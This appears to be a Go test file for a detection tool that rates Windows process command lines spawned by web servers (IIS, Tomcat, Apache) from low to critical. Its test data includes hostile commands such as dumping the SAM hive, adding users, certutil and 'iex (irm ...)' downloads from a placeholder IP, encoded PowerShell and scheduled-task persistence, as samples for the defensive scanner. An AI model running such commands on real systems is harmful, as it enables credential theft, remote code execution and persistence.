		{"sindresorhus/windows-release", "next", []string{`wmic os get Caption`}, medium},
		{"sindresorhus/windows-release", "next", []string{`wmic os get Caption,CSName,LastBootUpTime`}, high},
		{"bevry/getmac", "tomcat", []string{`cmd.exe /c getmac`}, medium},
		{"bevry/getmac", "tomcat", []string{`cmd.exe /c getmac /s dc01`}, high},
		{"Microsoft, Getting Started with AppCmd.exe", "iis", []string{`appcmd.exe list wp`}, medium},
		{"Microsoft, Getting Started with AppCmd.exe", "iis", []string{`appcmd.exe list apppool /text:*`}, critical},
		{"learn.microsoft.com/en-us/windows/win32/shell/fa-file-types", "tomcat", []string{`cmd.exe /c "reg query HKLM\SOFTWARE\Classes\.pdf"`}, low},
		{"learn.microsoft.com/en-us/windows/win32/shell/fa-file-types", "tomcat", []string{`cmd.exe /c reg query HKLM\SOFTWARE\Classes\.pdf & hostname`}, high},
		{"learn.microsoft.com/en-us/windows/win32/shell/fa-file-types", "tomcat", []string{`reg query HKLM\SAM`}, high},
		{elasticShell, "iis", []string{`cmd.exe /s /c "pandoc -f markdown -t docx in.md -o out.docx"`}, medium},
		{elasticShell, "iis", []string{`"C:\Program Files\7-Zip\7z.exe" a D:\export\report.zip D:\export\report.csv`}, medium},
		{elasticShell, "tomcat", []string{`cmd /c vol C:`}, medium},
		{elasticShell, "tomcat", []string{`cmd.exe`}, high},
		{elasticShell, "tomcat", []string{`cmd.exe /c odd`}, high},
		{elasticShell, "iis", []string{`cmd.exe /c pandoc in.md | D:\x.exe`}, high},
		{elasticShell, "iis", []string{`cmd.exe /c pan%PATHEXT:~0,1%doc in.md`}, high},
		// What it started counts for it, and below something hostile
		// nothing is a habit.
		{sigmaShell, "iis", []string{`cmd.exe /c D:\batch\export.bat`, `whoami`}, high},
		{sigmaShell, "iis", []string{`cmd.exe /c D:\batch\export.bat`, `D:\batch\tool.exe := tool.exe`, `reg save hklm\sam D:\s.hiv`}, critical},
		{sigmaShell, "apache", []string{`cmd.exe /c "git rev-parse HEAD"`, `cmd.exe /c net user a b /add`}, critical},
	})
}

// TestLevelReasons: each level says why; below something hostile a habit is set
// aside, and what a process did is told of what started it.
func TestLevelReasons(t *testing.T) {
	res, first := scanCases(t, scan.RuleOptions{},
		levelCase{"", "iis", []string{`powershell.exe -enc dwBoAG8AYQBtAGkA`, `cmd.exe /c ver`, `whoami`}, 0},
		levelCase{"", "apache", []string{`cmd.exe /c "stty"`}, 0})
	f := first[0]
	want := []string{"from high: ", "at most medium: by itself", "at least high: it asks who", "at least high: it hides"}
	for i, text := range want {
		if i >= len(f.LevelReasons) || !strings.HasPrefix(f.LevelReasons[i].String(), text) {
			t.Errorf("reason %d of %v, want %q", i, f.LevelReasons, text)
		}
	}
	shell := res.Findings[slices.Index(res.Findings, f)+1]
	text := fmt.Sprint(shell.LevelReasons)
	for _, part := range []string{"set aside low: libraries ask so", "but what started it is no habit", "below it, whoami.exe (412): it asks who"} {
		if !strings.Contains(text, part) || shell.Level != rules.LevelHigh {
			t.Errorf("%s: %s: lacks %q", shell.Level, text, part)
		}
	}
	for _, s := range res.Sessions {
		if len(s.LevelReasons) < 2 || s.LevelReasons[0].Effect != finding.LevelStart {
			t.Errorf("%s: %v", s.Host, s.LevelReasons)
		}
	}
	if last := res.Sessions[len(res.Sessions)-1]; last.Level != rules.LevelLow || last.Host != "HOST1" {
		t.Errorf("the habit is not last: %s %s", last.Host, last.Level)
	}
}

// TestOwnLevelRules: a user's habit wins over the questions that it names, and
// over nothing else; what lacks a part is an error.
func TestOwnLevelRules(t *testing.T) {
	const habit = `title: Nightly export
role: lower
why: the nightly export of the shop runs so
despite: behaviour_machine
logsource: {category: process_creation, product: windows}
detection: {line: {CommandLine|contains: 'D:\shop\export.bat'}, condition: line}
level: low
`
	file := filepath.Join(t.TempDir(), "own.yml")
	write := func(text string) scan.RuleOptions {
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return scan.RuleOptions{Paths: []string{file}}
	}
	_, first := scanCases(t, write(habit),
		levelCase{"", "iis", []string{`cmd.exe /c hostname && D:\shop\export.bat`}, 0},
		levelCase{"", "iis", []string{`cmd.exe /c whoami && D:\shop\export.bat`}, 0})
	if first[0].Level != rules.LevelLow || first[1].Level != rules.LevelHigh {
		t.Errorf("%s %v, %s %v", first[0].Level, first[0].LevelReasons, first[1].Level, first[1].LevelReasons)
	}
	for _, bad := range []string{
		strings.Replace(habit, "why: the nightly export of the shop runs so\n", "", 1),
		strings.Replace(habit, "level: low\n", "", 1),
		strings.Replace(habit, "behaviour_machine", "nobody", 1),
		strings.Replace(habit, "role: lower", "role: raise", 1),
	} {
		if res, _ := scanCases(t, write(bad)); res.Summary.Rules.Failed != 1 {
			t.Errorf("%d failed of\n%s", res.Summary.Rules.Failed, bad)
		}
	}
}

// TestCriticalIsNotLowered: a rule that says critical knows what it found.
func TestCriticalIsNotLowered(t *testing.T) {
	file := filepath.Join(t.TempDir(), "own.yml")
	const rule = `title: Grave
logsource: {category: process_creation, product: windows}
detection: {line: {CommandLine|contains: 'rev-parse'}, condition: line}
level: critical
`
	if err := os.WriteFile(file, []byte(rule), 0o644); err != nil {
		t.Fatal(err)
	}
	_, first := scanCases(t, scan.RuleOptions{Paths: []string{file}}, levelCase{"", "iis", []string{`cmd.exe /c git rev-parse HEAD`}, 0})
	if first[0].Level != rules.LevelCritical {
		t.Errorf("%s: %v", first[0].Level, first[0].LevelReasons)
	}
}

// TestLikeHabits: what has the shape of a habit of applications and something
// else on the line is none.
func TestLikeHabits(t *testing.T) {
	high, medium := rules.LevelHigh, rules.LevelMedium
	checkLevels(t, []levelCase{
		{splunkShell, "next", []string{`C:\Windows\system32\cmd.exe /d /s /c "npm ci && npm run build"`}, medium},
		{splunkShell, "next", []string{`C:\Windows\system32\cmd.exe /d /s /c "npm ci && x.exe"`}, high},
		{splunkShell, "iis", []string{`cmd.exe /c "cd /d D:\www && git fetch && certutil -urlcache -f http://203.0.113.9/a a"`}, high},
		{splunkShell, "iis", []string{`cmd.exe /c "cd /d D:\www && php -r phpinfo();"`}, high},
		{splunkShell, "iis", []string{`cmd.exe /c "cd /d D:\www && git fetch & whoami"`}, high},
		{"learn.microsoft.com, schtasks run", "iis", []string{`cmd.exe /c schtasks /run /tn Import`}, medium},
		{sigmaRecon, "iis", []string{`cmd.exe /c schtasks /run /tn Import & whoami`}, high},
		{"SigmaHQ proc_creation_win_schtasks_creation", "iis", []string{`cmd.exe /c schtasks /create /tn x /tr D:\x.exe /sc minute`}, high},
		{"learn.microsoft.com, net use", "iis", []string{`cmd.exe /c net use X: \\fs1\scan`}, medium},
		{"SigmaHQ proc_creation_win_net_use_mount_admin_share", "iis", []string{`cmd.exe /c net use X: \\fs1\C$`}, high},
		{"SigmaHQ proc_creation_win_net_use_password_plaintext", "iis", []string{`cmd.exe /c net use X: \\fs1\scan /user:CORP\adm P@ss`}, high},
		{"learn.microsoft.com, approved verbs", "iis", []string{`powershell.exe -NoProfile -Command "Get-VM | ConvertTo-Json"`}, medium},
		{hafnium, "iis", []string{`powershell.exe -NoProfile -Command "Get-VM | ForEach-Object { iex $_ }"`}, high},
		{hafnium, "iis", []string{`powershell.exe -Command "Get-ADUser -Filter *"`}, high},
		{"learn.microsoft.com, Restart-WebAppPool", "iis", []string{`powershell -Command "Import-Module WebAdministration; Restart-WebAppPool Shop"`}, medium},
		{hafnium, "iis", []string{`powershell -Command "Import-Module WebAdministration; Restart-WebAppPool Shop; iex (irm http://203.0.113.9)"`}, high},
		{"imagemagick.org, escapes", "iis", []string{`cmd.exe /s /c "magick identify -format "%wx%h" D:\up\1.jpg 2>&1"`}, rules.LevelLow},
		{"imagemagick.org, escapes", "iis", []string{`cmd.exe /s /c "magick %temp%\a.png & %temp%\x.exe"`}, high},
		{"svnbook.red-bean.com", "iis", []string{`C:\Windows\system32\cmd.exe /c svn log --xml -r HEAD:1 file:///D:/repos/shop`}, medium},
		{"learn.microsoft.com, forfiles", "mssql", []string{`cmd.exe /c forfiles /p "D:\Backup" /m *.bak /d -7 /c "cmd /c del @path"`}, rules.LevelLow},
		{lolbas, "mssql", []string{`cmd.exe /c forfiles /p "D:\Backup" /m *.bak /c "cmd /c D:\x.exe @path"`}, high},
	})
}
